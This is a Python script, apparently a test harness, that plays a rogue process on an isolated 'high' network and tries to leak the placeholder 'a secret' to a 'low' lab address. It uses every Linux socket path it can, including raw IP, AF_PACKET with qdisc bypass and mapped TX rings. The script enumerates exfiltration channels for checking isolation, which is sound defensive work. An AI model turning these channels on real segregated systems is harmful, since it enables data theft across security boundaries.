"""A rogue process on the high side: it sends on every kind of socket that Linux has, to whoever may listen.

Run as a script there: ``rogue.py N`` prints how many sends it tried, and how many the kernel seemed to take.
"""

import contextlib
import errno
import socket
import struct
import sys
from collections.abc import Callable

LOW, PORT = "10.78.0.1", 40000
LOW_MAC, HIGH_MAC = (bytes.fromhex(text) for text in ("020000000d01", "020000000d02"))
FRAME = LOW_MAC + HIGH_MAC + b"\x88\xb5" + b"a secret".ljust(46, b"\0")
IP_PACKET = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 7, 0, 64, 253, 0, b"", b"\x0a\x4e\x00\x01") + b"a secret"
QDISC_BYPASS, PACKET_TX_RING, SOL_PACKET = 20, 13, 263


def udp() -> None:
    """A datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"a secret", (LOW, PORT))


def udp_broadcast() -> None:
    """To everybody."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"high")
        sock.sendto(b"a secret", ("255.255.255.255", PORT))


def udp_multicast() -> None:
    """To a group."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"high")
        sock.sendto(b"a secret", ("224.0.0.251", PORT))


def udp6() -> None:
    """To all nodes of the link."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"a secret", ("ff02::1", PORT, 0, socket.if_nametoindex("high")))


def udp_segments() -> None:
    """Several datagrams in one call, which the kernel cuts."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(17, 103, 512)  # UDP_SEGMENT
        sock.sendto(b"x" * 4096, (LOW, PORT))


def tcp() -> None:
    """A connection, which begins with a SYN."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.setblocking(False)
        sock.connect_ex((LOW, PORT))


def ping() -> None:
    """An ICMP echo request."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as sock:
        sock.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0), (LOW, 0))


def raw_ip() -> None:
    """An IP packet with a header of our own."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as sock:
        sock.sendto(IP_PACKET, (LOW, 0))


def igmp_join() -> None:
    """Joining a group makes the kernel report it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        group = struct.pack("=4sl", socket.inet_aton("239.1.2.3"), 0)
        where = group[:4] + socket.inet_aton("10.78.0.2")
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, where)


def packet(bypass: bool = False, kind: int = socket.SOCK_RAW) -> None:
    """A frame, past IP."""
    with socket.socket(socket.AF_PACKET, kind) as sock:
        if bypass:
            sock.setsockopt(SOL_PACKET, QDISC_BYPASS, 1)
        if kind == socket.SOCK_RAW:
            sock.bind(("high", 0))
            sock.send(FRAME)
        else:
            sock.sendto(b"a secret", ("high", 0x88B5, 0, 0, LOW_MAC))


def packet_ring() -> None:
    """A frame through a mapped ring, with the qdisc bypassed: no copy by send(2)."""
    import mmap

    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.setsockopt(SOL_PACKET, QDISC_BYPASS, 1)
        sock.setsockopt(SOL_PACKET, PACKET_TX_RING, struct.pack("IIII", 4096, 1, 2048, 2))
        sock.bind(("high", 0))
        with mmap.mmap(sock.fileno(), 4096) as ring:
            ring[32 : 32 + len(FRAME)] = FRAME  # behind struct tpacket_hdr, aligned: TPACKET_HDRLEN - sockaddr_ll
            struct.pack_into("LIIHHII", ring, 0, 1, len(FRAME), len(FRAME), 0, 0, 0, 0)
            sock.send(b"")


WAYS: dict[str, Callable[[], None]] = {
    "UDP": udp,
    "UDP broadcast": udp_broadcast,
    "UDP multicast": udp_multicast,
    "UDP over IPv6": udp6,
    "UDP in segments": udp_segments,
    "TCP connect": tcp,
    "raw ICMP": ping,
    "raw IP": raw_ip,
    "IGMP join": igmp_join,
    "AF_PACKET": packet,
    "AF_PACKET, datagrams": lambda: packet(kind=socket.SOCK_DGRAM),
    "AF_PACKET past the qdisc": lambda: packet(bypass=True),
    "AF_PACKET by a mapped ring": packet_ring,
}


def main() -> None:
    """Try each way so many times."""
    only = sys.argv[2:] or list(WAYS)
    tried = taken = 0
    for name in only:
        for _ in range(int(sys.argv[1])):
            tried += 1
            with contextlib.suppress(OSError):
                try:
                    WAYS[name]()
                    taken += 1
                except OSError as error:
                    if error.errno not in (errno.ENOBUFS, errno.EPERM):
                        raise
    print(tried, taken)


if __name__ == "__main__":
    main()
